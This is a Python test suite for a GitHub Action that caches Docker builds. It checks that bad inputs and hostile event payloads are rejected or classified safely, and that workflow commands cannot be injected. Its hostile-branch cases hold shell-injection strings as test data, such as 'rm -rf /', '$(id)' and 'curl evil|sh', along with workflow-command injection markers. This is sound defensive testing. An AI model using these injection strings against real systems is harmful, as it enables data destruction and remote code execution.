"""Bad input never reaches docker: main() returns 1 with one `::error::` that names the input (or
GITHUB_EVENT_PATH) and what is accepted. Hostile but valid values (odd branch names, unknown events) get a
correct and safe classification, and nothing they contain can turn into a workflow command.

The unit tier forbids starting processes (tests/unit/conftest.py), so an error returned here is proof that
it came before any docker command. For valid input, ``_build`` (the first step that runs docker) is replaced
by a stub that records the decision and stops the run.
"""

from __future__ import annotations

import json
import string
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, get_args

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import regcache.main
from harness import events
from regcache.build_kind import Kind, classify
from regcache.cache_plan import plan_cache
from regcache.cache_refs import branch_tag
from regcache.errors import RegcacheError
from regcache.image_ref import TAG_RE
from regcache.main import main
from regcache.settings import load_settings
from tests.support.workflow_commands import Recorder

ABSENT = object()   # no GITHUB_EVENT_PATH at all
PUSH_AUTO = events.push("auto")
FORK_PR = events.pull_request(head_repo="contributor/rust")
DIGEST = "sha256:" + "a" * 64
# Injected workflow commands: one the action itself issues (so that a check allowing the action's own command
# names would let it through), and the legacy form the runner finds anywhere in a line.
INJECTED = "::warning::INJECTED"
LEGACY_INJECTED = "##[error]INJECTED"


@dataclass
class Case:
    id: str
    inputs: dict[str, str] = field(default_factory=dict)
    event: str = "push"
    payload: Any = field(default_factory=lambda: PUSH_AUTO)   # dict/list: JSON; bytes/str: raw; callable(path)
    ref: str | None = None          # GITHUB_REF; None: the payload's ref for a push
    env: dict[str, str] = field(default_factory=dict)
    names: str = ""                 # what the error must name, e.g. "input 'cache-mode'" or "GITHUB_EVENT_PATH"
    accepted: str = ""              # and what it must say is accepted


def _sparse(size: int):
    def write(path: Path) -> None:
        with open(path, "wb") as f:
            f.truncate(size)
    return write


def _input(name: str, value: str, accepted: str) -> Case:
    return Case(f"{name}={value[:24]!r}", inputs={name: value}, names=f"input '{name}'", accepted=accepted)


def _payload(id_: str, payload: Any, accepted: str, event: str = "push", ref: str | None = "",
             names: str = "GITHUB_EVENT_PATH") -> Case:
    return Case(id_, event=event, payload=payload, ref=ref, names=names, accepted=accepted)



BAD: list[Case] = [
    # modes and booleans
    _input("cache-mode", "maximum", "max | min"),
    _input("cache-mode", "Max", "max | min"),
    _input("cache-compression", "lz4", "zstd | gzip | estargz | uncompressed"),
    _input("pr-cache", "write", "read | off"),
    _input("other-cache", "write", "read | read-write | off"),
    _input("load", "yes", "true | false"),
    _input("push", "1", "true | false"),
    _input("fail-on-cache-error", "on", "true | false"),
    _input("reuse-image", "maybe", "true | false"),
    _input("load", "true\x00", "true | false"),
    # references
    _input("cache-image", "ghcr.io/Owner/Repo-cache", "lowercase repository"),
    _input("cache-image", "ghcr.io/owner/my cache", "lowercase repository"),
    _input("cache-image", f"ghcr.io/owner/cache@{DIGEST}", "without tag or digest"),
    _input("cache-image", "ghcr.io/owner/cache:latest", "without tag or digest"),
    _input("cache-image", "https://ghcr.io/owner/cache", "lowercase repository"),
    _input("cache-image", f"ghcr.io/owner/cache\n{INJECTED}", "lowercase repository"),
    _input("image-repository", "Ghcr.io/Owner/App", "lowercase repository"),
    _input("cache-from", "ghcr.io/owner/cache", "with a tag"),
    _input("cache-from", f"ghcr.io/owner/cache:main@{DIGEST}", "with a tag"),
    _input("tags", "ghcr.io/Owner/App:1", "image references"),
    _input("tags", "app:tag with space", "image references"),
    _input("tags", "app:", "image references"),
    _input("buildkit-image", "moby/BuildKit:latest", "image reference"),
    _input("cache-key", "has space", "at most 128"),
    _input("cache-key", "-leading-dash", "at most 128"),
    _input("cache-key", "k" * 129, "at most 128"),
    _input("cache-key", "clé-unicode", "at most 128"),
    # build args, labels, platforms, single lines, paths
    _input("build-args", "NO_EQUALS_SIGN", "KEY=VALUE"),
    _input("build-args", "=value", "KEY=VALUE"),
    _input("build-args", "KEY WITH SPACE=1", "KEY=VALUE"),
    _input("build-args", "A=1\nB", "KEY=VALUE"),
    _input("labels", "just-text", "KEY=VALUE"),
    _input("platforms", "Linux/AMD64", "os/arch"),
    _input("platforms", "amd64", "os/arch"),
    _input("target", "builder\nfinal", "one line"),
    _input("cache-version", "1\r2", "one line"),
    _input("context", "does/not/exist", "a directory"),
    _input("context", "Dockerfile", "a directory"),
    _input("file", "missing/Dockerfile", "a Dockerfile path"),
    # huge and binary values
    _input("cache-key", "x" * 1_000_000, "at most 128"),
    _input("cache-mode", "".join(map(chr, range(1, 256))), "max | min"),
    _input("build-args", bytes(range(256)).decode("latin-1").replace("=", ""), "KEY=VALUE"),
    # event payloads
    _payload("payload-not-json", b"{not json", "a webhook event payload"),
    _payload("payload-binary", b"\xff\xfe\x00\x01binary", "a webhook event payload"),
    _payload("payload-empty", b"", "a webhook event payload"),
    _payload("payload-list", [1, 2], "a JSON object"),
    _payload("payload-null", None, "a JSON object"),
    _payload("payload-json-string", '"just a string"', "a JSON object"),
    _payload("payload-bom", "\ufeff" + json.dumps(PUSH_AUTO), "a webhook event payload"),
    _payload("payload-over-25MB", _sparse(26 * 1024 * 1024), "a webhook event payload"),
    _payload("payload-deeply-nested", "[" * 100_000 + "]" * 100_000, "a webhook event payload"),
    _payload("payload-huge-integer", '{"ref": "refs/heads/auto", "x": ' + "9" * 5000 + "}",
             "a webhook event payload"),
    _payload("payload-path-missing", lambda path: None, "accepted"),
    _payload("payload-path-is-a-directory", lambda path: path.mkdir(), "accepted"),
    Case("no-GITHUB_EVENT_PATH-in-actions", payload=ABSENT, names="GITHUB_EVENT_PATH",
         accepted="the event payload's JSON file"),
    # payloads without what their kind needs
    _payload("pull_request-without-pull_request", {"action": "opened", "number": 1}, "accepted",
             event="pull_request"),
    _payload("pull_request-with-string-pull_request", {"number": 1, "pull_request": "#1"}, "accepted",
             event="pull_request"),
    _payload("pull_request_target-without-pull_request", {"number": 1}, "accepted",
             event="pull_request_target"),
    _payload("push-without-ref", {k: v for k, v in PUSH_AUTO.items() if k != "ref"}, "accepted"),
    _payload("push-with-numeric-ref", {**PUSH_AUTO, "ref": 42}, "accepted"),
]


def _env(ws: Path, case: Case) -> dict[str, str]:
    env = {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": case.event, "GITHUB_REPOSITORY": "rust-lang/rust",
           "GITHUB_ACTOR": "bors", "GITHUB_WORKSPACE": str(ws)}
    payload = case.payload
    if payload is not ABSENT:
        path = ws.parent / "event.json"
        if callable(payload):
            payload(path)
        elif isinstance(payload, bytes):
            path.write_bytes(payload)
        elif isinstance(payload, str):
            path.write_text(payload, encoding="utf-8")
        else:
            path.write_text(json.dumps(payload))
        env["GITHUB_EVENT_PATH"] = str(path)
    ref = case.ref
    if ref is None:
        ref = payload.get("ref", "") if isinstance(payload, dict) and case.event == "push" else ""
    env["GITHUB_REF"] = ref
    env.update({f"INPUT_{k.upper()}": v for k, v in case.inputs.items()})
    env.update(case.env)
    return env


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "Dockerfile").write_text("FROM scratch\nCOPY app.txt /app.txt\n")
    (ws / "app.txt").write_text("app\n")
    return ws


class ReachedDocker(Exception):
    """The stub for main._build: validation passed and the run would now start docker."""


@pytest.fixture
def decisions(monkeypatch) -> list:
    """Replace main._build (the first step that runs docker); collect the Outcome it was given."""
    seen = []

    def stub(s, log, o, cleanup):
        seen.append(o)
        raise ReachedDocker()

    monkeypatch.setattr(regcache.main, "_build", stub)
    return seen


@pytest.fixture
def commands(monkeypatch) -> Recorder:
    """The workflow commands the action issues (through regcache.log), recorded."""
    return Recorder().install(monkeypatch)


def _check_commands(out: str, commands: Recorder) -> None:
    """Every line of out that the runner would take as a workflow command is one the action issued itself,
    and reads back as what the action meant: nothing in the values it prints became a command."""
    assert commands.issued, "no command recorded: is regcache.log.issue_command still what the action uses?"
    problems = commands.foreign_commands(out)
    assert not problems, "\n".join(problems)


def _params(cases: list[Case]):
    return [pytest.param(c, id=c.id) for c in cases]


@pytest.mark.parametrize("case", _params(BAD))
def test_bad_input_is_one_error_before_any_docker_command(ws, capsys, decisions, commands, case):
    try:
        code = main([], _env(ws, case))
    except ReachedDocker:
        pytest.fail(f"accepted: the run went on to docker as a {decisions[0].kind.kind!r} build "
                    f"({decisions[0].kind.reason})")
    _check_one_error(code, capsys, case, commands)


def _check_one_error(code: int, capsys, case: Case, commands: Recorder) -> None:
    """Exit 1 with exactly one ::error:: naming the input (or the payload) and what is accepted."""
    out, err = capsys.readouterr()
    assert code == 1
    errors = [line for line in out.splitlines() if line.startswith("::error")]
    assert len(errors) == 1, out[-2000:]
    assert case.names in errors[0], errors[0][:500]
    assert case.accepted in errors[0], errors[0][:500]
    assert "Traceback" not in out + err
    _check_commands(out, commands)


# The prune action's inputs (python -m regcache prune): the same rule, before any registry or API request.
PRUNE_BAD: list[Case] = [
    _input("keep-days", "-1", "a number of days >= 0"),
    _input("keep-days", "two weeks", "a number of days >= 0"),
    _input("keep-days", "nan", "a number of days >= 0"),
    _input("keep-days", "inf", "a number of days >= 0"),
    _input("keep-per-dockerfile", "2.5", "a whole number >= 0"),
    _input("keep-per-dockerfile", "-3", "a whole number >= 0"),
    _input("dry-run", "yes", "true | false"),
    _input("packages-api", "docker", "auto | github | oci"),
    _input("cache-image", "ghcr.io/Rust-Lang/ci-cache", "lowercase"),
    _input("image-repository", "ghcr.io/rust lang/images", "a lowercase repository without tag or digest"),
]


@pytest.mark.parametrize("case", _params(PRUNE_BAD))
def test_bad_prune_input_is_one_error_before_any_request(ws, capsys, monkeypatch, commands, case):
    from regcache import prune

    def no_request(*args, **kwargs):
        raise AssertionError("a request was sent before the inputs were checked")

    monkeypatch.setattr("requests.Session.request", no_request)
    _check_one_error(prune.main([], _env(ws, case)), capsys, case, commands)


def test_a_huge_value_is_quoted_briefly(ws, capsys, decisions):
    """A 1 MB value gives a readable error, not a 1 MB annotation."""
    case = _input("cache-key", "x" * 1_000_000, "at most 128")
    assert main([], _env(ws, case)) == 1
    error = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("::error"))
    assert len(error) < 4096, f"the error annotation is {len(error)} characters long"


# -- hostile but valid: a correct, safe classification --------------------------------------------------

@dataclass
class Hostile:
    id: str
    event: str
    payload: Any
    ref: str | None
    kind: str
    write: bool
    inputs: dict[str, str] = field(default_factory=dict)
    fork: bool = False


def _push(ref: str, *, via_payload: bool = False, **kw) -> Hostile:
    payload = {**PUSH_AUTO, "ref": ref}
    return Hostile(f"push {ref!r}{' (payload)' if via_payload else ''}", "push", payload,
                   "" if via_payload else ref, **kw)



HOSTILE: list[Hostile] = [
    _push("refs/heads/auto;rm -rf /", kind="other", write=False),
    _push("refs/heads/$(id)", kind="other", write=False),
    _push("refs/heads/`id`", kind="other", write=False),
    _push("refs/heads/auto && curl evil|sh", kind="other", write=False),
    _push("refs/heads/try\u200b", kind="other", write=False),
    _push("refs/heads/Auto", kind="other", write=False),
    _push("refs/heads/ auto", kind="other", write=False),
    _push("refs/heads/auto/../try", kind="other", write=False),
    _push("refs/heads/élan/ünïcödé-分支-🚀", kind="other", write=False),
    _push(f"refs/heads/auto\n{INJECTED}", via_payload=True, kind="other", write=False),
    _push(f"refs/heads/auto\r{INJECTED}", via_payload=True, kind="other", write=False),
    _push(f"refs/heads/auto\r\n  {INJECTED}", via_payload=True, kind="other", write=False),
    # Git refuses '[' in a ref name; the runner's variables and the payload are checked all the same.
    _push(f"refs/heads/{LEGACY_INJECTED}", kind="other", write=False),
    _push("refs/heads/", kind="other", write=False),
    _push("refs/tags/auto", kind="other", write=False),
    _push("refs/pull/1/merge", kind="other", write=False),
    _push("refs/heads/automation/bors/auto", kind="auto", write=True),
    _push("refs/heads/$(id)", kind="try", write=True, inputs={"try-branches": "$(id)\ntry"}),
    _push("refs/heads/try", kind="other", write=False, inputs={"try-branches": "try;echo pwned\n$(id)"}),
    Hostile("GITHUB_REF wins over the payload ref", "push", PUSH_AUTO, "refs/heads/main", "other", False),
    Hostile("event PUSH", "PUSH", PUSH_AUTO, "refs/heads/auto", "other", False),
    Hostile("event 'push '", "push ", PUSH_AUTO, "refs/heads/auto", "other", False),
    Hostile("unknown event", "totally_new_event", {"action": "x"}, "refs/heads/auto", "other", False),
    Hostile("unknown event, read-write", "totally_new_event", {}, "", "other", True,
            inputs={"other-cache": "read-write"}),
    Hostile("pull_request with empty pull_request", "pull_request", {"number": 7, "pull_request": {}},
            "refs/pull/7/merge", "pr", False, inputs={"other-cache": "read-write"}, fork=True),
    Hostile("fork pull_request_target, read-write", "pull_request_target", FORK_PR, "refs/heads/main", "pr",
            False, inputs={"other-cache": "read-write"}, fork=True),
    Hostile("fork pull_request_review, read-write", "pull_request_review", FORK_PR, "refs/pull/42/merge",
            "other", False, inputs={"other-cache": "read-write"}, fork=True),
    Hostile("merge_group with an empty payload", "merge_group", {}, "", "auto", True),
    Hostile("event name with a newline", f"push\n{INJECTED}", PUSH_AUTO, "refs/heads/auto", "other", False),
    Hostile("event name with a carriage return", f"push\r{INJECTED}", PUSH_AUTO, "refs/heads/auto", "other",
            False),
    Hostile("event name with a legacy command", f"push {LEGACY_INJECTED}", PUSH_AUTO, "refs/heads/auto", "other",
            False),
    Hostile("pull request number with a newline", "pull_request", {**FORK_PR, "number": f"1\n{INJECTED}"},
            "refs/pull/1/merge", "pr", False, fork=True),
    Hostile("pull request number, a lone surrogate", "pull_request", {**FORK_PR, "number": "\ud800"},
            "refs/pull/1/merge", "pr", False, fork=True),
]


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in HOSTILE])
def test_hostile_but_valid_values_are_classified_safely(ws, capsys, decisions, commands, case):
    env = _env(ws, Case(case.id, inputs={"github-token": "tok-123", **case.inputs}, event=case.event,
                        payload=case.payload, ref=case.ref))
    with pytest.raises(ReachedDocker):
        main([], env)
    out, err = capsys.readouterr()
    (o,) = decisions
    assert (o.kind.kind, o.plan.write, o.kind.fork) == (case.kind, case.write, case.fork), o.kind.reason
    assert not [line for line in out.splitlines() if line.startswith("::error")], out
    _check_commands(out, commands)


# -- properties ----------------------------------------------------------------------------------------------

EVENT_NAMES = st.one_of(
    st.sampled_from(["push", "pull_request", "pull_request_target", "merge_group", "workflow_dispatch",
                     "schedule", "pull_request_review", "issue_comment", "", "PUSH", "push "]),
    st.text(max_size=20),
)
REFS = st.one_of(st.sampled_from(["", "refs/heads/auto", "refs/heads/try", "refs/heads/main", "refs/tags/v1",
                                  "refs/pull/1/merge", "refs/heads/"]), st.text(max_size=30))
LEAVES = st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**63), st.floats(allow_nan=False),
                   st.text(max_size=20), st.sampled_from(["refs/heads/auto", "rust-lang/rust", "contributor/rust"]))
JSON = st.recursive(LEAVES, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                    st.dictionaries(st.text(max_size=12), inner, max_size=4)),
                    max_leaves=25)
KEYS = st.sampled_from(["ref", "number", "pull_request", "head", "base", "repo", "full_name", "repository",
                        "merge_group", "base_ref", "action"])


def _perturb(draw, payload: Any) -> Any:
    """The payload with a few values replaced by anything, or removed (0 to 4 changes)."""
    payload = json.loads(json.dumps(payload))
    for _ in range(draw(st.integers(0, 4))):
        node, keys = payload, []
        while isinstance(node, dict) and node and draw(st.booleans()):
            key = draw(st.sampled_from(sorted(node)))
            keys.append(key)
            if not isinstance(node[key], dict):
                break
            node = node[key]
        target = payload
        for key in keys[:-1]:
            target = target[key]
        name = keys[-1] if keys else draw(KEYS)
        if isinstance(target, dict):
            if draw(st.booleans()):
                target[name] = draw(JSON)
            else:
                target.pop(name, None)
    return payload


@st.composite
def realistic(draw) -> Any:
    """A real webhook payload with a few values replaced by anything, or removed."""
    return _perturb(draw, draw(st.sampled_from([
        events.push("auto"), events.push("try"), events.pull_request(), FORK_PR,
        events.pull_request(head_repo=None), events.merge_group(), events.workflow_dispatch(), events.schedule(),
    ])))


PAYLOADS = st.one_of(realistic(), JSON, st.dictionaries(KEYS, JSON, max_size=5))


def _payload_env(ws: Path, name: str, ref: str, payload: Any, extra: dict[str, str] | None = None) -> dict:
    path = ws.parent / "event.json"
    path.write_text(json.dumps(payload))
    return {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": name, "GITHUB_REF": ref, "GITHUB_EVENT_PATH": str(path),
            "GITHUB_REPOSITORY": "rust-lang/rust", "GITHUB_WORKSPACE": str(ws), **(extra or {})}


# -- events as the runner sends them: the event name and its payload drawn together ---------------------------

TRY_BRANCHES = ("try", "try-perf", "automation/bors/try")   # the inputs' defaults (regcache/inputs.py)
AUTO_BRANCHES = ("auto", "automation/bors/auto")
PR_EVENTS = ("pull_request", "pull_request_target")
# Events that are neither push, merge_group nor PR_EVENTS but carry a pull_request object (its fork matters).
PR_CARRYING = ("pull_request_review", "pull_request_review_comment")
PLAIN_EVENTS = ("workflow_dispatch", "schedule", "issue_comment", "release", "repository_dispatch", "workflow_run")
SPECIAL_NAMES = frozenset({"push", "merge_group", *PR_EVENTS, *PR_CARRYING})
BRANCH_TEXT = st.text(min_size=1, max_size=20).filter(lambda b: "\x00" not in b)
FAMILIES = ("try", "auto", "push-other", "merge_group", "pr", "pr-fork", "pr-carrying", "pr-carrying-fork", "plain")


@dataclass(frozen=True)
class EventRun:
    """What the runner gives the action: GITHUB_EVENT_NAME, GITHUB_REF, the payload; and what it must classify
    as, (kind, fork), when that is known (an unchanged realistic event), else None."""

    name: str
    ref: str
    payload: Any
    expected: tuple[str, bool] | None = None
    family: str = "random"


def _push_kind(branch: str) -> str:
    return "try" if branch in TRY_BRANCHES else "auto" if branch in AUTO_BRANCHES else "other"


@st.composite
def runner_events(draw) -> EventRun:
    """An event name with the payload GitHub sends for it (harness/events.py), and the ref the runner sets."""
    family = draw(st.sampled_from(FAMILIES))
    if family in ("try", "auto", "push-other"):
        if family == "try":
            branch = draw(st.sampled_from(TRY_BRANCHES))
        elif family == "auto":
            branch = draw(st.sampled_from(AUTO_BRANCHES))
        else:
            branch = draw(st.one_of(st.sampled_from(["main", "master", "auto-merge", "Try", "try/1", "autos"]),
                                    BRANCH_TEXT))
        tag = family == "push-other" and draw(st.booleans())
        payload = events.push(branch, ref=f"refs/tags/{branch}" if tag else None)
        # The runner sets GITHUB_REF; outside it (a local run) the payload's ref is used.
        ref = draw(st.sampled_from([payload["ref"], ""]))
        return EventRun("push", ref, payload, ("other" if tag else _push_kind(branch), False), family)
    if family == "merge_group":
        payload = events.merge_group(number=draw(st.integers(1, 10**6)))
        return EventRun("merge_group", payload["merge_group"]["head_ref"], payload, ("auto", False), family)
    if family.startswith("pr"):
        fork = family.endswith("fork")
        head = draw(st.sampled_from(["contributor/rust", "rust-lang-fork/rust", None])) if fork else "rust-lang/rust"
        number = draw(st.integers(1, 10**6))
        payload = events.pull_request(number, head_repo=head, head_ref=draw(BRANCH_TEXT))
        if family.startswith("pr-carrying"):
            name = draw(st.sampled_from(PR_CARRYING))
            payload = {**payload, "action": "submitted", "review": {"id": number, "state": "approved"}}
            return EventRun(name, f"refs/pull/{number}/merge", payload, ("other", fork), family)
        name = draw(st.sampled_from(PR_EVENTS))
        ref = f"refs/pull/{number}/merge" if name == "pull_request" else "refs/heads/main"
        return EventRun(name, ref, payload, ("pr", fork), family)
    name = draw(st.one_of(st.sampled_from(PLAIN_EVENTS), st.text(max_size=20).filter(lambda n: n not in SPECIAL_NAMES)))
    payload = draw(st.sampled_from([events.workflow_dispatch(), events.schedule(),
                                    {"action": "created", "repository": events.repository()}]))
    return EventRun(name, "refs/heads/main", payload, ("other", False), "plain")


@st.composite
def event_runs(draw) -> EventRun:
    """Mostly events as GitHub sends them, some with values changed or removed, some a name and payload
    drawn independently (any payload under any event name)."""
    how = draw(st.sampled_from(["as sent", "as sent", "as sent", "changed", "independent"]))
    if how == "independent":
        return EventRun(draw(EVENT_NAMES), draw(REFS), draw(PAYLOADS))
    run = draw(runner_events())
    if how == "changed":
        return EventRun(run.name, run.ref, _perturb(draw, run.payload), None, run.family)
    return run


PROPERTY_EXAMPLES = 400
# What the property test must have seen among events as sent (kind, fork), each at least MIN_SEEN times: without
# them the trust checks below would not run (with name and payload drawn independently, a pull request came up
# about once in 300 examples).
REQUIRED = (("try", False), ("auto", False), ("pr", False), ("pr", True), ("other", False), ("other", True))
MIN_SEEN = 10


def test_any_event_classifies_or_is_an_event_error(ws):
    seen: Counter = Counter()

    @settings(max_examples=PROPERTY_EXAMPLES, derandomize=True, database=None, deadline=None)
    @given(run=event_runs(), other_cache=st.sampled_from(["read", "read-write", "off"]))
    @example(run=EventRun("pull_request", "", {"pull_request": None}), other_cache="read-write")
    @example(run=EventRun("pull_request", "", {"pull_request": {"head": {"repo": []}, "base": 1}}), other_cache="read")
    @example(run=EventRun("issue_comment", "", {"pull_request": {"head": {"repo": {"full_name": 3}}}}),
             other_cache="read-write")
    @example(run=EventRun("push", "", {"ref": ["refs/heads/auto"]}), other_cache="read")
    def check(run: EventRun, other_cache: str) -> None:
        name, ref, payload = run.name, run.ref, run.payload
        env = _payload_env(ws, name, ref, payload, {"INPUT_OTHER-CACHE": other_cache, "INPUT_GITHUB-TOKEN": "t"})
        try:
            s = load_settings(env)
            kind = classify(s.event, s.try_branches, s.auto_branches)
            plan = plan_cache(kind, pr_cache=s.pr_cache, other_cache=s.other_cache, has_token=True)
        except RegcacheError:
            assert run.expected is None, f"an event as GitHub sends it was refused: {run}"
            seen["error"] += 1
            return
        assert kind.kind in get_args(Kind) and isinstance(kind.reason, str) and kind.reason
        if run.expected is not None:
            assert (kind.kind, kind.fork) == run.expected, (run, kind.reason)
            seen[(kind.kind, kind.fork)] += 1
            if kind.fork and other_cache == "read-write":
                seen["fork asking to write"] += 1
        seen["write" if plan.write else "no write"] += 1
        # Trust: only the runner's event name and ref make a writing kind, and a fork never writes.
        if kind.kind == "try":
            assert name == "push" and (ref or payload.get("ref")) == f"refs/heads/{kind.branch}"
            assert kind.branch in s.try_branches
        if kind.kind == "auto":
            assert name == "merge_group" or (name == "push" and kind.branch in s.auto_branches)
        if kind.kind == "pr":
            assert name in PR_EVENTS and not plan.write
        if kind.fork:
            assert not plan.write

    check()
    # The distribution is fixed (derandomize): this checks that the cases the trust checks are about were run.
    missing = {want: seen[want] for want in REQUIRED if seen[want] < MIN_SEEN}
    assert not missing, f"too few examples of {missing} in {dict(seen)}"
    assert seen["fork asking to write"] >= 5 and seen["write"] >= MIN_SEEN and seen["error"] >= 5, dict(seen)


# Lone surrogates are left out here: printing them is a known failure, pinned by a HOSTILE case above.
SAFE_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20)
SAFE_JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-1000, 1000), SAFE_TEXT),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(SAFE_TEXT, inner, max_size=3)),
    max_leaves=15)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.one_of(st.sampled_from(["push", "pull_request", "merge_group", "schedule"]),
                      st.text(alphabet=string.ascii_letters + "_", max_size=12)),
       ref=REFS.filter(lambda r: "\x00" not in r), payload=st.one_of(realistic(), SAFE_JSON))
def test_main_on_any_payload_errors_cleanly_or_gets_to_docker(ws, capsys, monkeypatch, name, ref, payload):
    reached = []

    def stub(s, log, o, cleanup):
        reached.append(o)
        raise ReachedDocker()

    monkeypatch.setattr(regcache.main, "_build", stub)
    env = _payload_env(ws, name, ref.replace("\n", ""), payload)
    try:
        code = main([], env)
    except ReachedDocker:
        code = None
    out, _ = capsys.readouterr()
    errors = [line for line in out.splitlines() if line.startswith("::error")]
    if code is None:
        assert reached and not errors
    else:
        assert code == 1 and len(errors) == 1 and "event" in errors[0].lower(), out


@given(branch=st.text(max_size=300), slug=st.sampled_from(["dockerfile", "ci-docker-x86-64-linux", "d" * 100]))
def test_a_branch_fallback_tag_is_always_a_valid_tag(branch, slug):
    tag = branch_tag(slug, branch)
    assert TAG_RE.match(tag) and len(tag) <= 128, tag


# -- the build's own output ---------------------------------------------------------------------------------

def _b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode()).decode()


def test_build_output_cannot_inject_a_workflow_command(capsys, commands):
    """What the build prints (a RUN step's output, a step's name, BuildKit's warnings, buildx's text) is the
    code under build's to choose: a pull request's. None of it becomes a workflow command."""
    from regcache.build_step import run_build
    from regcache.log import Log

    digest, t0, t1 = "sha256:" + "5" * 64, "2026-01-01T00:00:00Z", "2026-01-01T00:00:01Z"
    name = f"[1/1] RUN echo {LEGACY_INJECTED}"
    solve = [
        {"vertexes": [{"digest": digest, "name": name, "started": t0}]},
        {"logs": [{"vertex": digest, "stream": 1,
                   "data": _b64(f"progress 10%\r{INJECTED}\nok {LEGACY_INJECTED}\n  {INJECTED}\n")}]},
        {"warnings": [{"vertex": digest, "short": _b64(f"{LEGACY_INJECTED} warning\r{INJECTED}")}]},
        {"vertexes": [{"digest": digest, "name": name, "started": t0, "completed": t1}]},
    ]
    stderr = "".join(json.dumps(s) + "\n" for s in solve) + f"plain text {LEGACY_INJECTED}\n"

    class Buildx:
        def stream(self, argv, on_stderr, on_stdout, deadline=lambda: None) -> int:
            on_stderr(stderr)
            on_stdout(f"stdout\r{INJECTED}")
            return 0

    log = Log(github=True)
    log.mask("tok-123")
    run_build(Buildx(), log, ["docker", "buildx", "build"], 60.0, True)
    out = capsys.readouterr().out
    assert "INJECTED" in out   # the output was printed: it is the check below that matters
    _check_commands(out, commands)
